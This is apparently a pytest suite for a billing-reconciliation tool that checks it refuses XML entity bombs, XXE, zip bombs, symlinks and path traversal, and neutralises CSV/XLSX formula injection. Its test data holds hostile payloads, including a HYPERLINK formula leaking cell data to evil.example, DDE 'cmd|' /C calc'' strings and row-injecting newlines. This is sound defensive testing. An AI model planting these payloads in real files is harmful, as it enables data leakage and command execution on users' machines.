"""Hostile input at ingest: XML entity and zip bombs, path tricks, injection via mapping files.

A file in ``inputs/`` or a name in it is attacker-controlled (a vendor export, a customer
name). Reading it must fail fast with a clear InputFileError or keep every value as plain
data: no entity expansion, no unpacking of a bomb, no reading or writing outside the
workspace, no extra rows or live formulas in the CSV files the tool writes.
"""

from __future__ import annotations

import csv
import importlib.util
import io
import os
import re
import resource
import sys
import time
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from recon_helpers import cli
from recon_helpers.audit.mapping_changes import write_client_mapping, write_product_mapping
from recon_helpers.core.errors import InputFileError, UsageError
from recon_helpers.core.exports import write_table
from recon_helpers.core.period import Period
from recon_helpers.core.workspace import Workspace
from recon_helpers.ingest.load import load_period
from recon_helpers.reconcile.mapping import read_client_map, read_product_map
from recon_helpers.reconcile.run import reconcile_period
from recon_helpers.reconcile.summary import findings_for_export
from tests.workspace_builder import build, d, p

CORPUS = Path(__file__).parent / "corpus"
HEADER = (
    "vendor,vendor_customer_id,vendor_customer_name,vendor_sku,sku_name,quantity,unit_cost,"
    "currency,charge_start,charge_end"
)
ROW = "ninjaone,NJ-00417,Fabrikam,ws,Workstation,48,2.75,USD,2026-10-01,"
QUICK = 5.0  # seconds: a refused bomb must not be parsed, let alone expanded
# a spreadsheet treats a cell starting with these as a formula (plain numbers aside)
TRIGGER = re.compile(r"[=+\-@\t\r\n]")
PLAIN_NUMBER = re.compile(r"-?(?:\d+(?:\.\d*)?|\.\d+)")


def _make_corpus() -> Any:
    spec = importlib.util.spec_from_file_location("make_corpus", CORPUS / "make_corpus.py")
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module
    try:
        spec.loader.exec_module(module)
    finally:
        del sys.modules[spec.name]
    return module


MC = _make_corpus()


def _month(tmp_path: Path) -> Path:
    (folder := tmp_path / "data" / "inputs" / "2026-10").mkdir(parents=True)
    return folder


def _load(folder: Path) -> Any:
    return load_period(Workspace.open(folder.parents[1]), Period.parse("2026-10"))


def _refused(folder: Path, *fragments: str) -> InputFileError:
    start = time.perf_counter()
    with pytest.raises(InputFileError) as info:
        _load(folder)
    assert time.perf_counter() - start < QUICK
    for fragment in fragments:
        assert fragment in str(info.value)
    return info.value


def _max_rss_bytes() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024  # Linux: KiB


# --- XML entities ----------------------------------------------------------------------------


def test_openpyxl_parses_workbook_xml_with_defusedxml() -> None:
    from openpyxl.xml import DEFUSEDXML, functions

    assert DEFUSEDXML, "defusedxml must be installed and not disabled (OPENPYXL_DEFUSEDXML)"
    assert functions.iterparse.__module__.startswith("defusedxml")  # sheets, shared strings
    assert functions.fromstring.__module__.startswith(("defusedxml", "lxml"))  # workbook parts


def _entity_parts(where: str, canary: Path) -> dict[str, str]:
    usage = MC.Sheet("Usage", MC._usage(MC._row(*MC.FAB, MC.WS, MC.Num("48"), MC.Num("2.75"),
                                               "2026-10-01")))
    parts, lol = MC.xlsx_parts([usage]), MC.entity_bomb_sheet().split("\n")[1]  # <!DOCTYPE
    if where == "shared_strings":
        parts["xl/sharedStrings.xml"] = (
            f'<?xml version="1.0"?>\n{lol.replace("worksheet", "sst")}\n'
            f'<sst xmlns="{MC.MAIN_NS}" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>'
        )
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            "</Types>",
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.'
            'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        )
        parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
            "</Relationships>",
            f'<Relationship Id="rId9" Type="{MC.REL_NS}/sharedStrings" '
            'Target="sharedStrings.xml"/></Relationships>',
        )
    elif where == "workbook":
        parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
            "<workbook ", f'{lol.replace("worksheet", "workbook")}\n<workbook ', 1
        ).replace('name="Usage"', 'name="&lol9;"')
    elif where == "external_entity":  # XXE: an entity that would read a local file
        parts["xl/worksheets/sheet1.xml"] = (
            f'<?xml version="1.0"?>\n<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM '
            f'"{canary.resolve().as_uri()}">]>\n<worksheet xmlns="{MC.MAIN_NS}"><sheetData>'
            '<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>'
            "</sheetData></worksheet>"
        )
    return parts


@pytest.mark.parametrize("where", ["sheet", "shared_strings", "workbook", "external_entity"])
def test_xml_entities_in_an_xlsx_are_refused_quickly(tmp_path: Path, where: str) -> None:
    folder = _month(tmp_path)
    canary = tmp_path / "secret.txt"
    canary.write_text("CANARY-7f3a9c", encoding="utf-8")
    target = folder / "usage.xlsx"
    if where == "sheet":
        target.write_bytes((CORPUS / "xlsx_entity_bomb.xlsx").read_bytes())
    else:
        parts = _entity_parts(where, canary)
        MC.write_zip(target, {k: v.encode("utf-8") for k, v in parts.items()})
    before = _max_rss_bytes()
    err = _refused(folder, "usage.xlsx: refused", "declares entities")
    assert "CANARY" not in str(err)
    assert _max_rss_bytes() - before < 100 * 2**20  # nothing was expanded


# --- zip bombs -------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def bomb_sheet() -> tuple[bytes, int, int]:
    """Sheet XML of 300 MiB deflated to ~300 KB (see make_corpus.bomb_sheet_stream)."""
    return MC.bomb_sheet_stream(300)


def _bomb_xlsx(path: Path, sheet: tuple[bytes, int, int], declared: int | None = None) -> None:
    parts = MC.xlsx_parts([MC.Sheet("Usage", [["x"]])])
    members = [(name, *MC.deflate(text.encode())) for name, text in parts.items()
               if name != "xl/worksheets/sheet1.xml"]
    data, crc, size = sheet
    members.append(("xl/worksheets/sheet1.xml", data, crc, size if declared is None else declared))
    path.write_bytes(MC.raw_zip(members))


def test_zip_bomb_is_refused_before_anything_is_unpacked(
    tmp_path: Path, bomb_sheet: tuple[bytes, int, int]
) -> None:
    folder = _month(tmp_path)
    _bomb_xlsx(folder / "usage.xlsx", bomb_sheet)
    assert (folder / "usage.xlsx").stat().st_size < 400_000  # tiny on disk
    before = _max_rss_bytes()
    err = _refused(folder, "usage.xlsx: refused as a likely zip bomb", "xl/worksheets/sheet1.xml")
    assert f"{bomb_sheet[2]:,}" in str(err)  # names the size it would unpack to
    assert _max_rss_bytes() - before < 100 * 2**20


def test_a_zip_that_understates_its_size_cannot_smuggle_the_bomb_in(
    tmp_path: Path, bomb_sheet: tuple[bytes, int, int]
) -> None:
    """zipfile never inflates more than a member declares, so lying headers only break it."""
    folder = _month(tmp_path)
    _bomb_xlsx(folder / "usage.xlsx", bomb_sheet, declared=4096)
    before = _max_rss_bytes()
    _refused(folder, "usage.xlsx: not a readable XLSX workbook")
    assert _max_rss_bytes() - before < 100 * 2**20


# --- paths -----------------------------------------------------------------------------------


def test_a_symlink_in_inputs_is_refused_and_its_target_not_read(tmp_path: Path) -> None:
    folder = _month(tmp_path)
    outside = tmp_path / "elsewhere" / "secret.csv"
    outside.parent.mkdir()
    outside.write_text(f"{HEADER}\n{ROW.replace('Fabrikam', 'CANARY-SECRET')}\n")
    (folder / "usage.csv").write_text(f"{HEADER}\n{ROW}\n")
    (folder / "zz_link.csv").symlink_to(outside)
    err = _refused(folder, "zz_link.csv: is a symbolic link", "copy the export itself")
    assert err.path.name == "zz_link.csv" and "CANARY" not in str(err)


@pytest.mark.parametrize("kind", ["inside", "directory", "dangling"])
def test_every_kind_of_symlink_is_refused(tmp_path: Path, kind: str) -> None:
    folder = _month(tmp_path)
    (folder / "usage.csv").write_text(f"{HEADER}\n{ROW}\n")
    link = folder / "link.csv"
    if kind == "inside":  # even one pointing into the workspace: inputs are files, not links
        link.symlink_to(folder / "usage.csv")
    elif kind == "directory":
        link.symlink_to(tmp_path, target_is_directory=True)
    else:
        link.symlink_to(tmp_path / "missing.csv")
    _refused(folder, "link.csv: is a symbolic link")


def test_hidden_names_are_passed_over_without_reading(tmp_path: Path) -> None:
    folder = _month(tmp_path)
    (folder / "usage.csv").write_text(f"{HEADER}\n{ROW}\n")
    (folder / ".hidden_link.csv").symlink_to(tmp_path / "missing.csv")
    (folder / "~$usage.xlsx").write_bytes(b"lock file, not a workbook")
    loaded = _load(folder)
    assert loaded.inventory["file"].tolist() == ["usage.csv"]
    assert sorted(loaded.ignored) == [".hidden_link.csv", "~$usage.xlsx"]


def test_recon_toml_file_names_cannot_point_outside_the_month_folder(tmp_path: Path) -> None:
    folder = _month(tmp_path)
    root = folder.parents[1]
    (tmp_path / "outside.csv").write_text(f"{HEADER}\n{ROW.replace('Fabrikam', 'CANARY')}\n")
    (folder / "usage.csv").write_text(f"{HEADER}\n{ROW}\n")
    (root / "recon.toml").write_text(
        '[files."../../../outside.csv"]\nformat = "canonical_delivered"\n'
        f'[files."{(tmp_path / "outside.csv").as_posix()}"]\nformat = "canonical_delivered"\n'
    )
    loaded = _load(folder)
    assert loaded.inventory["file"].tolist() == ["usage.csv"]
    assert loaded.delivered["vendor_customer_name"].tolist() == ["Fabrikam"]


@pytest.mark.parametrize(
    "period",
    [
        "../2026-10",
        "2026-10/../../..",
        "/etc",
        "2026-10\n",
    ],
)
def test_periods_with_path_tricks_are_usage_errors(tmp_path: Path, period: str,
                                                   capsys) -> None:
    folder = _month(tmp_path)
    with pytest.raises(UsageError, match="YYYY-MM"):
        Period.parse(period, "--period")  # the one place a month is read from text
    assert cli.main(["reconcile", "--workspace", str(folder.parents[1]), "--period",
                     period]) == 2
    assert "YYYY-MM" in capsys.readouterr().err


@pytest.mark.parametrize(
    "name", ["Fabrikam: Oct 2026.csv", "=HYPERLINK(1).csv", "-rf.csv", "two\nlines.csv"]
)
def test_odd_file_names_load_and_stay_traceable(tmp_path: Path, name: str) -> None:
    folder = _month(tmp_path)
    (folder / name).write_text(f"{HEADER}\n{ROW}\n{ROW.replace('48', 'x')}\n")
    loaded = _load(folder)
    assert loaded.delivered["source"].tolist() == [f"{name}:1"]
    assert loaded.delivered["source"].str.rsplit(":", n=1).str[0].tolist() == [name]
    assert loaded.quarantine[["file", "row"]].values.tolist() == [[name, 2]]


# --- what the tool writes: mapping files and exports -----------------------------------------

HOSTILE_NAMES = [
    "Evil Corp\nmicrosoft,guid-x,Injected Ltd,ATTACKER",  # a newline trying to add a row
    "Evil\r\nhuntress,1,x,ATTACKER\r\n",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "'=already quoted",
    '"Quoted", with comma',
    "tab\tinside",
    "-12.50",
]


def _spreadsheet_safe(cell: str) -> bool:
    return not TRIGGER.match(cell) or bool(PLAIN_NUMBER.fullmatch(cell))


def test_confirm_client_with_hostile_names_round_trips_without_injecting_rows(
    tmp_path: Path,
) -> None:
    path = tmp_path / "mappings" / "clients.csv"
    for i, name in enumerate(HOSTILE_NAMES):
        write_client_mapping(path, "Microsoft", f"guid-{i}", name, f"C{i}")
    cmap = read_client_map(path)
    assert len(cmap) == len(HOSTILE_NAMES)
    assert "ATTACKER" not in cmap["client_id"].tolist()
    got = cmap[["vendor", "vendor_customer_id", "vendor_customer_name", "client_id"]]
    # the reader strips outer whitespace (as it does for hand-edited files)
    want = [["microsoft", f"guid-{i}", n.strip(), f"C{i}"] for i, n in enumerate(HOSTILE_NAMES)]
    assert got.values.tolist() == want
    with path.open(encoding="utf-8", newline="") as fh:
        records = list(csv.reader(fh))
    assert len(records) == 1 + len(HOSTILE_NAMES)
    assert all(_spreadsheet_safe(cell) for record in records for cell in record)


def test_confirm_product_with_formula_sku_round_trips(tmp_path: Path) -> None:
    path = tmp_path / "products.csv"
    write_product_mapping(path, "pax8", "=1+1", "+PRODUCT", "1024")
    write_product_mapping(path, "pax8", "@sku\nhuntress,agents,EVIL,1", "EDR")
    pm = read_product_map(path)
    assert pm[["vendor_sku", "product_id"]].values.tolist() == [
        ["=1+1", "+PRODUCT"],
        ["@sku\nhuntress,agents,EVIL,1", "EDR"],
    ]
    assert "EVIL" not in pm["product_id"].tolist()
    text = path.read_text(encoding="utf-8")
    assert all(_spreadsheet_safe(c) for r in csv.reader(io.StringIO(text, newline="")) for c in r)


def test_mapping_writes_never_go_through_a_symlink(tmp_path: Path) -> None:
    outside = tmp_path / "outside.csv"
    outside.write_text("vendor,vendor_customer_id,vendor_customer_name,client_id\n")
    before = outside.read_bytes()
    (maps := tmp_path / "data" / "mappings").mkdir(parents=True)
    (maps / "clients.csv").symlink_to(outside)
    write_client_mapping(maps / "clients.csv", "pax8", "c-1", "Contoso", "CONTOSO")
    assert outside.read_bytes() == before  # the file outside the workspace is untouched
    assert not (maps / "clients.csv").is_symlink()
    assert read_client_map(maps / "clients.csv")["client_id"].tolist() == ["CONTOSO"]


def test_hostile_input_names_reach_the_findings_export_as_inert_text(tmp_path: Path) -> None:
    """From an input file to `recon reconcile --out` (CSV and XLSX): text only, no formulas."""
    vendor_name = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    client_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    ws = build(
        tmp_path / "data",
        delivered=[d("-cmd|' /C calc'!A0", "agents", "3", "2", name=vendor_name)],
        promised=[p("acme", "EDR", "3", "5", client_name=client_name)],
    )
    month = ws.inputs(Period.parse("2026-10"))
    os.replace(month / "usage.csv", month / "+usage.csv")  # a file name that is a payload too
    findings = findings_for_export(reconcile_period(ws, Period.parse("2026-10")).findings)
    text_cells = {str(v) for v in findings.to_numpy().ravel()}
    assert any(vendor_name in v or "-cmd|" in v for v in text_cells)
    assert any(client_name in v for v in text_cells)
    assert any(v.startswith("+usage.csv:") for v in text_cells)

    out_csv = write_table(findings, tmp_path / "findings.csv")
    with out_csv.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) == 1 + len(findings)
    assert all(_spreadsheet_safe(cell) for row in rows for cell in row)
    assert any(cell == "'" + client_name for row in rows for cell in row)

    book = openpyxl.load_workbook(write_table(findings, tmp_path / "findings.xlsx"))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    values = [str(c.value) for c in cells if c.value is not None]
    assert all(_spreadsheet_safe(v) for v in values)
    assert any(v.startswith("'+usage.csv:") for v in values)
